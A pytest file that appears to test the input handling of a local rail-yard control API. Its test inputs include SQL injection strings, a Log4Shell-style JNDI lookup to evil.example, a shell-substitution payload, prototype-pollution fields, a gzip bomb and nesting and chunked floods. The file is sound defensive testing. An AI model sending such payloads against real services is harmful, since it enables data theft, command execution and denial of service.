"""Bodies that are too big, too deep, of the wrong kind, or hold what no text should."""

from __future__ import annotations

import gzip
import json

import pytest

from attacks.target import JSON_TYPE, Target, refused

PATHS = ["/api/orders", "/api/hands", "/api/host", "/api/host/leave"]
NAMES = {"/api/orders": "spur", "/api/hands": "contact"}
SQL = [
    "brickyard'; DROP TABLE request; --",
    "' OR '1'='1",
    '" OR ""="',
    "brickyard' UNION SELECT value FROM setting WHERE name='pin' --",
    "brickyard\\'; ATTACH DATABASE '/tmp/x' AS x; --",
    "%' OR name LIKE '%",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "$(touch /tmp/x)",
    "brickyard\x00",
    "../../brickyard",
]


def sound(path: str, value: object) -> dict[str, object]:
    if path == "/api/orders":
        return {"command": "ask", "spur": value}
    return {"contact": value, "made": False}


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("size", [17_000, 2**20, 20 * 2**20])
def test_a_huge_body(target: Target, path: str, size: int) -> None:
    with target.unchanged():
        refused(target.post(path, b'{"note": "' + b"x" * size + b'"}', target.host()), 413)


@pytest.mark.parametrize("path", PATHS)
def test_a_huge_body_in_chunks_that_says_no_length(target: Target, path: str) -> None:
    head = "".join(f"{name}: {value}\r\n" for name, value in target.host().items())
    start = (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {JSON_TYPE}\r\n{head}"
        "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    )
    chunk = b"4000\r\n" + b" " * 0x4000 + b"\r\n"
    with target.unchanged():
        got = target.raw(start.encode() + chunk * 64 + b"0\r\n\r\n")
        assert not got or got.split()[1] in {b"400", b"411", b"413"}


@pytest.mark.parametrize(
    "length", ["-1", "+5", "0x10", "5.0", "99999999999999999999", "1 1", "a", "", "1e3"]
)
def test_a_length_that_is_none(target: Target, length: str) -> None:
    head = "".join(f"{name}: {value}\r\n" for name, value in target.host().items())
    with target.unchanged():
        got = target.raw(
            (
                f"POST /api/orders HTTP/1.1\r\nHost: localhost\r\nContent-Type: {JSON_TYPE}\r\n"
                f"{head}Content-Length: {length}\r\nConnection: close\r\n\r\n{{}}"
            ).encode(),
            quiet_s=1.0,
        )
        assert not got or 400 <= int(got.split()[1]) < 500


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(
    "body",
    [
        b"[" * 16_000,
        b'{"a":' * 3_000,
        b"[" * 8_000 + b"]" * 8_000,
        b'{"command": ' + b"[" * 5_000 + b"]" * 5_000 + b"}",
    ],
    ids=["open", "objects", "closed", "inside"],
)
def test_a_body_nested_without_end(target: Target, path: str, body: bytes) -> None:
    with target.unchanged():
        refused(target.post(path, body, target.host()), 400)


@pytest.mark.parametrize("path", ["/api/orders", "/api/hands"])
@pytest.mark.parametrize(
    "value",
    [None, True, 1, 1.5, [], {}, ["brickyard"], {"$gt": ""}, "", "x" * 201, 2**63, -1],
    ids=str,
)
def test_a_field_of_the_wrong_kind(target: Target, path: str, value: object) -> None:
    with target.unchanged():
        refused(target.post(path, sound(path, value), target.host()), 400)


@pytest.mark.parametrize("path", ["/api/orders", "/api/hands"])
@pytest.mark.parametrize("value", SQL)
def test_words_of_other_languages_in_a_name(target: Target, path: str, value: str) -> None:
    """SQL, templates, shells: to the screen they are names of nothing that there is."""
    with target.unchanged():
        refused(target.post(path, sound(path, value), target.host()), 404)


@pytest.mark.parametrize(
    "number",
    ["2147483648", "9223372036854775808", "1e400", "-1", "0", "NaN", "Infinity", "1" * 5_000],
)
@pytest.mark.parametrize("field", ["violation", "cars"])
def test_a_number_beyond_all_bounds(target: Target, field: str, number: str) -> None:
    body = {
        "violation": f'{{"command": "acknowledge", "violation": {number}}}',
        "cars": f'{{"command": "start-brake-test", "spur": "brickyard", "cars": {number}}}',
    }[field]
    with target.unchanged():
        refused(target.post("/api/orders", body.encode(), target.host()), 400)


@pytest.mark.parametrize(
    "body",
    [
        b'{"command": "ask", "spur": "\\ud800"}',
        b'{"command": "ask", "spur": "\\udfff\\ud800"}',
        b'{"command": "ask", "spur": "brickyard", "note": "\\udc00"}',
        b'{"command": "ask", "spur": "\xff"}',
        b'{"command": "ask", "spur": "\xed\xa0\x80"}',
        b'{"command": "ask", "spur": "\xc0\xae"}',
        b'\xef\xbb\xbf{"command": "ask", "spur": "brickyard"}',
        json.dumps({"command": "ask", "spur": "brickyard"}).encode("utf-16"),
        gzip.compress(b'{"command": "ask", "spur": "brickyard"}', mtime=0),
        b'{"command": "ask", "spur": "brickyard"} {}',
        b'{"command": "ask", "spur": "brickyard",}',
        b"{'command': 'ask', 'spur': 'brickyard'}",
        b'{"command": "ask", "spur": "brickyard", "admin": true}',
        b'{"command": "ask", "spur": "brickyard", "__proto__": {}}',
        b'{"command": "drop", "spur": "brickyard"}',
        b'{"command": "ask", "spur": "brickyard", "cars": 3}',
        b"null",
        b"",
    ],
)
def test_text_that_is_no_text_and_json_that_is_no_order(target: Target, body: bytes) -> None:
    with target.unchanged():
        refused(target.post("/api/orders", body, target.host()), 400)


def test_a_packed_body_is_not_unpacked(target: Target) -> None:
    """Twenty megabytes in twenty kilobytes would else be a way past the limit."""
    packed = gzip.compress(b'{"command": "ask", "spur": "' + b" " * 10_000_000 + b'"}', mtime=0)
    with target.unchanged():
        head = target.host() | {"Content-Encoding": "gzip"}
        refused(target.post("/api/orders", packed, head), 400, 413, 415)


def test_a_note_longer_than_any_note(target: Target) -> None:
    body = {"command": "ask", "spur": "brickyard", "note": "x" * 501}
    with target.unchanged():
        refused(target.post("/api/orders", body, target.host()), 400)
